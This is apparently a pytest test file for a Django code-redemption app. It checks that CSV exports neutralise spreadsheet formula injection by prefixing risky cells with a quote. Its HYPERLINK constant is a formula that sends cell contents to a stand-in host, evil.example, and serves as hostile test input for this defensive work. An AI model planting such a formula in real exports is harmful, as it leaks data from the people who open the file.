"""No CSV the product writes can run a formula: cells starting = + - @ tab or CR get a '."""

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone

from redemption.csv_out import csv_lines, safe_cell, unmark
from redemption.services import bulk
from redemption.services.bulk.csv_lines import parse_line
from tests.factories import CodeFactory, CodeTypeFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("p-42", "p-42"),
        ("a=b", "a=b"),
        ('{"x":"=1"}', '{"x":"=1"}'),
        ("", ""),
        (None, ""),
        (7, "7"),
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(cell, written):
    assert safe_cell(cell) == written
    assert unmark(safe_cell(cell)) == ("" if cell is None else str(cell))


def test_the_writer_neutralises_every_cell_of_every_row():
    rows = [["scanCode", "redeemedByProfileId"], ["AB-12", HYPERLINK], ["-CD-34", "@me"]]

    parsed = list(csv.reader(io.StringIO("".join(csv_lines(rows)))))

    assert parsed == [
        ["scanCode", "redeemedByProfileId"],
        ["AB-12", "'" + HYPERLINK],
        ["'-CD-34", "'@me"],
    ]


def test_an_exported_scan_code_that_starts_with_a_hyphen_imports_again():
    parsed = parse_line(safe_cell("-CD34-5678"))

    assert (parsed.canonical, parsed.display) == ("CD345678", "-CD34-5678")


@pytest.fixture
def hostile_code(db):
    ct = CodeTypeFactory(name="formulas")
    return CodeFactory(
        code_type=ct,
        scan_code="-FORM-0001",
        state="Redeemed",
        redeemed_by_profile_id=HYPERLINK,
        redeemed_at=timezone.now(),
        custom_code_info={"note": "=1+1"},
    )


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_neutralised(rows: list[list[str]]) -> None:
    cells = [cell for row in rows for cell in row]
    assert "'" + HYPERLINK in cells
    assert "'-FORM-0001" in cells
    assert '{"note":"=1+1"}' in cells  # JSON starts with a brace: nothing to neutralise
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], cells


def test_the_portal_export_neutralises_formulas(client, ops_user, hostile_code):
    client.force_login(ops_user)

    response = client.get(reverse("redemption:code_export", args=["formulas"]))

    assert response.status_code == 200
    _assert_neutralised(_rows(b"".join(response.streaming_content).decode()))


def test_the_export_command_neutralises_formulas(hostile_code, tmp_path):
    out = io.StringIO()
    call_command("export_codes", "formulas", stdout=out, stderr=io.StringIO())
    target = tmp_path / "codes.csv"
    call_command("export_codes", "formulas", "-o", str(target), stderr=io.StringIO())

    _assert_neutralised(_rows(out.getvalue()))
    _assert_neutralised(_rows(target.read_text()))


@pytest.mark.django_db
def test_job_results_neutralise_a_prefix_that_starts_with_a_hyphen(client, ops, ops_user):
    ct = CodeTypeFactory()
    job = bulk.job_generate_start(actor=ops, code_type_name=ct.name, quantity=3, prefix="-ab")
    bulk.run_job(job.pk)
    client.force_login(ops_user)

    portal = client.get(reverse("redemption:job_result", args=[job.pk]))

    rows = _rows(b"".join(portal.streaming_content).decode())
    assert rows[0] == ["scanCode"]
    assert len(rows) == 4
    assert all(row[0].startswith("'-AB-") for row in rows[1:]), rows
